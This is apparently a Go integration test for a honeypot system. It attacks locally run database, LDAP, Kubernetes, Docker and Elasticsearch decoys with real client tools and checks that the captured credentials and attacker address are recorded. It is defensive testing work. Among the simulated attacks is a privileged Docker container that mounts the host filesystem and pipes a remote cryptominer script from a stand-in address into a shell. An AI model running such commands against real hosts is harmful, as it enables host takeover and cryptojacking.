package main

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"decnet/internal/store"
	"decnet/internal/testutil"
)

const dataFleet = `# the database, directory and cloud-API honeypots, for the test through the store
[db]
services = mysql, postgres, mongodb, mssql
[db.mongodb]
auth = true
[dc]
services = ldap
[kube]
services = k8s, docker_api
[search]
services = elasticsearch
`

// TestDataServicesThroughStore attacks the database, directory and
// cloud-API honeypots of a `decnet up` fleet with their real clients and
// checks what reaches the store: each login's credential or crackable
// material as a bounty, with the attacker's address.
func TestDataServicesThroughStore(t *testing.T) {
	tools := map[string]string{}
	for _, name := range []string{"mariadb", "psql", "ldapsearch", "curl", "docker", "tsql"} {
		tools[name] = testutil.RequireTool(t, name)
	}
	py := testutil.RequireTool(t, "/usr/bin/python3")
	if err := exec.Command(py, "-c", "import pymongo").Run(); err != nil {
		testutil.Skip(t, "python3-pymongo is not installed (see .ci/run)")
	}

	const base = "127.77.210.10"
	n, src, dir := attackedFleet(t, dataFleet, base, "127.77.210.0/24")
	ip := map[string]string{"db": base, "dc": "127.77.210.11", "kube": "127.77.210.12", "search": "127.77.210.13"}

	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	attack := func(env []string, name string, args ...string) string {
		t.Helper()
		cmd := exec.CommandContext(ctx, name, args...)
		cmd.Env = append(append(os.Environ(), "HOME="+dir), env...)
		out, _ := cmd.CombinedOutput() // refused logins exit non-zero
		return string(out)
	}
	attack(nil, tools["mariadb"], "-h", ip["db"], "-P", n.port("db", "mysql"), "-u", "root", "-pWinter2026", "--skip-ssl", "-e", "select 1")
	attack([]string{"PGPASSWORD=pg-secret"}, tools["psql"],
		fmt.Sprintf("host=%s port=%s user=alice dbname=postgres sslmode=disable", ip["db"], n.port("db", "postgres")), "-c", "select 1")
	attack(nil, tools["tsql"], "-H", ip["db"], "-p", n.port("db", "mssql"), "-U", "sa", "-P", "Sql2019!")
	attack(nil, py, "-c", fmt.Sprintf(`import pymongo
try:
    pymongo.MongoClient("mongodb://mongoadmin:m0ng0pw@%s:%s/?authSource=admin", serverSelectionTimeoutMS=5000).admin.command("ping")
except Exception as e:
    print(e)`, ip["db"], n.port("db", "mongodb")))
	attack(nil, tools["ldapsearch"], "-x", "-H", "ldap://"+ip["dc"]+":"+n.port("dc", "ldap/389"), "-D", "cn=admin,dc=example,dc=com",
		"-w", "ldap-pw", "-b", "dc=example,dc=com")
	attack(nil, tools["curl"], "-sk", "-H", "Authorization: Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln",
		"https://"+ip["kube"]+":"+n.port("kube", "k8s/6443")+"/api/v1/namespaces/default/secrets")
	// The cryptominer drop of an exposed Docker API, pull included.
	docker := []string{"-H", "tcp://" + ip["kube"] + ":" + n.port("kube", "docker_api/2375")}
	attack(nil, tools["docker"], append(docker, "run", "-d", "--privileged", "-v", "/:/host", "alpine",
		"sh", "-c", "wget -qO- http://203.0.113.9/xmr.sh | sh")...)
	attack(nil, tools["curl"], "-s", "-u", "elastic:es-pw", "http://"+ip["search"]+":"+n.port("search", "elasticsearch")+"/_cat/indices?v")

	token := n.token()
	if findLog(n.logs(token, "service:docker_api event:command"), func(l store.Log) bool {
		return l.AttackerIP == src && l.Fields["action"] == "container_create" && l.Fields["image"] == "alpine" &&
			l.Fields["privileged"] == "true" && strings.Contains(l.Fields["binds"], "/:/host") && l.Fields["escape"] != ""
	}) == nil {
		t.Errorf("docker run --privileged -v /:/host not recorded in full")
	}
	for _, want := range []struct {
		service string
		match   func(map[string]any) bool
	}{
		{"mysql", func(p map[string]any) bool {
			return p["username"] == "root" && p["hash_format"] == "mysql native (hashcat 11200)" && strings.HasPrefix(fmt.Sprint(p["hash"]), "$mysqlna$")
		}},
		{"postgres", func(p map[string]any) bool {
			return p["username"] == "alice" && strings.HasPrefix(fmt.Sprint(p["hash_format"]), "postgres scram-sha-256")
		}},
		{"mongodb", func(p map[string]any) bool {
			return p["username"] == "mongoadmin" && strings.HasPrefix(fmt.Sprint(p["hash_format"]), "mongodb scram-sha-")
		}},
		{"mssql", func(p map[string]any) bool { return p["username"] == "sa" && p["password"] == "Sql2019!" }},
		{"ldap", func(p map[string]any) bool {
			return p["username"] == "cn=admin,dc=example,dc=com" && p["password"] == "ldap-pw"
		}},
		{"elasticsearch", func(p map[string]any) bool { return p["username"] == "elastic" && p["password"] == "es-pw" }},
		{"k8s", func(p map[string]any) bool {
			return p["token"] == "eyJhbGciOiJSUzI1NiJ9.e30.c2ln" && p["token_type"] == "bearer"
		}},
	} {
		if !n.bounty(token, want.service, src, want.match) {
			t.Errorf("no %s credential bounty from %s", want.service, src)
		}
	}
	n.stop()
}
